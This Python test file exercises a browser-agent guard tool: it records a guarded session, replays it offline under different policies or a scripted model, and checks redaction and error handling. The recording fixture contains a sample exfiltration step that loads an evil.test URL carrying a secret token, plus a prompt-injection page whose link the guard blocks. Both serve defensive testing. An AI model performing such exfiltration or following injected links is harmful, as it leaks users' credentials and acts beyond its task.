"""Recorded sessions: a guarded run in Chromium recorded with `launch(record=DIR)`, then
replayed offline (`pagewarden replay`) with the same policies, stricter ones, a model, and
broken recordings."""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from pagewarden import ActionBlocked, Guard, Secret, launch
from pagewarden.replay import load_session
from pagewarden.testing import LocalSite, ScriptedLLM
from pagewarden.trace import SESSION_FORMAT_VERSION, SessionFormatError

EXE = str(Path(sys.executable).parent / "pagewarden")
SECRET = "tok-R3c0rdedS3ssi0nV4lue"
GOAL = "Read issue 7 and the plain page."

POLICIES = """\
version: 1
policies:
  - id: ORG-PROFILE
    category: boundary
    risk_level: high
    description: Do not visit profile pages.
    rules:
      - url_deny: "/profile"
  - id: ORG-ISSUES
    category: boundary
    risk_level: high
    description: Only read the issue named in the task.
"""
STRICTER = (
    POLICIES
    + """\
  - id: ORG-NO-ISSUE-PAGE
    category: boundary
    risk_level: high
    description: The issue page is out of bounds.
    rules:
      - url_deny: "/issue.html"
"""
)


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([EXE, *args], capture_output=True, text=True, timeout=300, check=False)


@pytest.fixture(scope="module")
def recording(site: LocalSite, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """One real guarded session in Chromium, recorded (module-wide: replays only read it)."""
    root = tmp_path_factory.mktemp("recorded")
    policies = root / "policies-source.yaml"
    policies.write_text(POLICIES)
    run_dir = root / "run"

    async def record() -> None:
        async with launch(
            record=run_dir, host_map={"*.test": site.port}, goal=GOAL, policies=policies,
            secrets=[Secret(SECRET, allow_domains=["app.test"])], screenshots=True,
        ) as page:  # fmt: skip
            await page.goto("http://app.test/plain.html")
            await page.goto("http://app.test/injection.html")
            with pytest.raises(ActionBlocked):
                await page.get_by_role("link", name="this link").click()
            await page.goto("http://app.test/issue.html")
            with pytest.raises(ActionBlocked):  # the registered secret may not leave for evil.test
                await page.goto(f"http://evil.test/plain.html?t={SECRET}")

    asyncio.run(record())
    policies.write_text("version: 1\npolicies: []\n")  # the source file changes: the recording keeps its copy
    yield run_dir


def test_the_directory_holds_the_session(recording: Path) -> None:
    manifest = json.loads((recording / "manifest.json").read_text())
    assert manifest["format"] == "pagewarden.session"
    assert manifest["format_version"] == SESSION_FORMAT_VERSION
    assert manifest["goal"] == GOAL and manifest["mode"] == "enforce" and manifest["closed"]
    assert manifest["steps"] == 5 and len(manifest["sessions"]) == 1
    assert manifest["config"]["baseline"] is True and manifest["config"]["llm"] is None
    assert manifest["files"]["trace"] == "trace.jsonl" and "flows" not in manifest["files"]
    assert "ORG-PROFILE" in (recording / "policies.yaml").read_text()
    lines = [json.loads(line) for line in (recording / "trace.jsonl").read_text().splitlines()]
    assert [line["verdict"]["decision"] for line in lines] == ["allow", "allow", "block", "allow", "block"]
    assert [line["ran"] for line in lines] == [True, True, False, True, False]
    for line in lines:  # screenshots under screenshots/, named relative to the directory
        assert line["screenshot"].startswith("screenshots/") and (recording / line["screenshot"]).is_file()
    assert (recording / "events.jsonl").exists()
    everything = "".join(
        p.read_text(errors="ignore") for p in recording.rglob("*") if p.is_file() and p.suffix != ".png"
    )
    assert SECRET not in everything and "[REDACTED:" in everything


def test_replay_with_the_recorded_policies_changes_nothing(recording: Path, tmp_path: Path) -> None:
    out, html = tmp_path / "diff.json", tmp_path / "diff.html"
    result = run("replay", str(recording), "--json", str(out), "--html", str(html))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0 decision(s) changed" in result.stdout
    report = json.loads(out.read_text())
    assert report["steps"] == 5 and report["changed"] == 0 and report["policies"] == "recorded"
    # The last step was blocked because a registered secret was in the URL; the recording holds
    # it redacted, so the replay cannot tell: it says so rather than report a change.
    assert [r["status"] for r in report["results"]] == ["same"] * 4 + ["unverifiable"]
    last = report["results"][-1]
    assert last["recorded"] == "block" and last["recorded_policies"] == ["PW-CREDENTIALS"]
    assert "redacted" in last["note"] and "action.value" in last["redacted"]
    assert "unverifiable" in result.stdout and SECRET not in result.stdout + out.read_text()
    assert "no decision changed" not in html.read_text() and SECRET not in html.read_text()


def test_replay_with_a_stricter_policy_shows_exactly_the_changed_step(
    recording: Path, tmp_path: Path
) -> None:
    stricter = tmp_path / "stricter.yaml"
    stricter.write_text(STRICTER)
    out, html = tmp_path / "diff.json", tmp_path / "diff.html"
    result = run("replay", str(recording), "-p", str(stricter), "--json", str(out), "--html", str(html))
    assert result.returncode == 1, result.stdout + result.stderr
    report = json.loads(out.read_text())
    changed = [r for r in report["results"] if r["status"] == "changed"]
    assert len(changed) == 1 and changed[0]["index"] == 4
    assert (changed[0]["recorded"], changed[0]["now"]) == ("allow", "block")
    assert changed[0]["now_policies"] == ["ORG-NO-ISSUE-PAGE"] and "issue.html" in changed[0]["action"]
    assert "ORG-NO-ISSUE-PAGE" in result.stdout and "1 decision(s) changed" in result.stdout
    assert "ORG-NO-ISSUE-PAGE" in html.read_text() and SECRET not in html.read_text()


@pytest.mark.timeout(900)  # three CLI replays: slow on a loaded machine
def test_replay_with_a_model_and_its_cache(recording: Path, tmp_path: Path) -> None:
    fine = {"policy_violation": False, "violated_policy_ids": [], "goal_deviation": False}
    cache = tmp_path / "cache"
    with ScriptedLLM() as llm:
        llm.on(None, fine)
        args = ["replay", str(recording), "--llm-base-url", llm.base_url, "--llm-model", "scripted",
                "--consult", "always", "--llm-cache", str(cache)]  # fmt: skip
        first = run(*args, "--json", str(tmp_path / "1.json"))
        assert first.returncode == 0, first.stdout + first.stderr
        asked = len(llm.chat_requests)
        assert asked >= 3  # every step the rules did not block went to the model
        second = run(*args, "--json", str(tmp_path / "2.json"))
        assert second.returncode == 0 and len(llm.chat_requests) == asked  # answered from the cache
        report = json.loads((tmp_path / "2.json").read_text())
        assert report["llm_requests"] == 0 and report["llm_cached"] >= 3
    with ScriptedLLM() as llm:
        llm.on("issue.html", {**fine, "policy_violation": True, "violated_policy_ids": ["ORG-ISSUES"],
                              "risk_explanation": "another issue than the task's"})  # fmt: skip
        llm.on(None, fine)
        out = tmp_path / "3.json"
        result = run("replay", str(recording), "--llm-base-url", llm.base_url, "--llm-model", "scripted",
                     "--consult", "always", "--json", str(out))  # fmt: skip
        assert result.returncode == 1, result.stdout + result.stderr
        changed = [r for r in json.loads(out.read_text())["results"] if r["status"] == "changed"]
        assert [c["index"] for c in changed] == [4] and "ORG-ISSUES" in changed[0]["now_policies"]


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        ("{not json", "corrupt manifest"),
        ('{"format": "pagewarden.session", "format_version": 99, "pagewarden": "9.0", "files": {}}',
         "session format version 99 (written by pagewarden 9.0)"),
        ('{"format": "pagewarden.session", "format_version": 0, "files": {}}', "older format"),
        ('{"format": "pagewarden.session", "format_version": "1"}', "is not an integer"),
        ('{"format": "something-else"}', "not a pagewarden session manifest"),
    ],
)  # fmt: skip
def test_a_bad_manifest_is_refused_clearly(
    recording: Path, tmp_path: Path, manifest: str, message: str
) -> None:
    copy = tmp_path / "run"
    shutil.copytree(recording, copy)
    (copy / "manifest.json").write_text(manifest)
    with pytest.raises(SessionFormatError) as caught:
        load_session(copy)
    assert message in str(caught.value)
    result = run("replay", str(copy))
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_a_bare_trace_directory_replays_and_bad_lines_are_named(recording: Path, tmp_path: Path) -> None:
    bare = tmp_path / "bare"
    bare.mkdir()
    shutil.copy(recording / "trace.jsonl", bare / "trace.jsonl")
    result = run("replay", str(bare))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "bare trace directory" in result.stdout
    (bare / "trace.jsonl").write_text((recording / "trace.jsonl").read_text() + "{oops\n")
    broken = run("replay", str(bare))
    assert broken.returncode == 2 and "trace.jsonl:6: not JSON" in broken.stderr
    missing = run("replay", str(tmp_path / "nowhere"))
    assert missing.returncode == 2 and "not a directory" in missing.stderr
    browser = run("replay", str(recording), "--browser")  # recorded without the network layer
    assert browser.returncode == 2 and "no recorded network flows" in browser.stderr
    assert "proxy=True" in browser.stderr and "Traceback" not in browser.stderr


def test_recording_refuses_a_used_directory_and_trace_together(recording: Path, tmp_path: Path) -> None:
    with pytest.raises(FileExistsError):
        Guard(record=recording)
    with pytest.raises(ValueError, match="record="):
        Guard(record=tmp_path / "r", trace=tmp_path / "t.jsonl")


async def test_the_report_fits_the_window_and_filters_to_stops(
    recording: Path, tmp_path: Path, browser
) -> None:
    out = tmp_path / "out" / "report.html"
    result = run("report", str(recording), "-o", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    text = out.read_text()
    assert "<script" not in text.lower() and SECRET not in text
    assert "5 steps in 1 session(s): 3 allow, 2 block" in text and "PW-INJECTION" in text
    assert "../../run/screenshots/" in text or "screenshots/" in text
    page = await browser.new_page(viewport={"width": 1024, "height": 800})
    try:
        await page.goto(out.as_uri())
        assert await page.evaluate("document.documentElement.scrollWidth") <= 1024
        rows = page.locator("tr[class^='r-']")
        assert await rows.count() == 5
        await page.get_by_label("only the steps the guard stopped").check()
        visible = [await rows.nth(i).is_visible() for i in range(5)]
        assert visible == [False, False, True, False, True]
        shot = page.locator("tr.r-block img").first
        await page.locator("tr.r-block details summary").first.click()
        assert await shot.evaluate("img => img.complete && img.naturalWidth > 0")
    finally:
        await page.close()
    bad = run("report", str(tmp_path / "nothing-here"))
    assert bad.returncode == 2 and "Traceback" not in bad.stderr


def test_the_report_folds_long_runs_of_allowed_steps() -> None:
    from pagewarden.trace._report import render_session_report

    def line(index: int, decision: str) -> dict:
        step = {
            "action": {"kind": "click", "selector": f"#b{index}"},
            "observation": {"url": "http://a.test/"},
        }
        return {"session": "s", "index": index, "step": step, "verdict": {"decision": decision, "score": 0.9}}

    page = render_session_report([*(line(i, "allow") for i in range(1, 7)), line(7, "block")], title="t")
    assert "6 allowed steps" in page and page.count("class='r-block'") == 1


async def test_the_replay_diff_page_fits_a_1024_px_window(tmp_path: Path, browser) -> None:
    """Long unbroken texts (a URL, a selector, a reason) wrap instead of widening the page, for
    the offline and the browser replay's page alike (the latter lists steps not performed)."""
    from pagewarden.replay._replay import ReplayedStep, ReplayReport
    from pagewarden.replay._replay_html import render_replay_html

    long_url = "http://app.test/" + "a" * 400 + "?q=" + "b" * 300
    steps = [
        ReplayedStep("s1", 1, 1, "click '" + "#x" * 150 + "'", long_url, True, "allow", "block", "changed",
                     [], ["ORG-" + "P" * 120], "", "reason " + "r" * 500, ""),
        ReplayedStep("s1", 2, 2, "fill '#token'", long_url, True, "allow", "", "not_rerun",
                     note="not performed again: its value was redacted " + "n" * 300),
    ]  # fmt: skip
    report = ReplayReport("run-" + "d" * 200, steps, ["s1"], 12.0, browser=True, misses=["GET " + long_url])
    out = tmp_path / "diff.html"
    out.write_text(render_replay_html(report))
    text = out.read_text()
    assert "not re-run" in text and "1 not performed again" in text and "<script" not in text.lower()
    page = await browser.new_page(viewport={"width": 1024, "height": 800})
    try:
        await page.goto(out.as_uri())
        await page.locator("details summary").click()  # "All steps" open too
        assert await page.evaluate("document.documentElement.scrollWidth") <= 1024
    finally:
        await page.close()
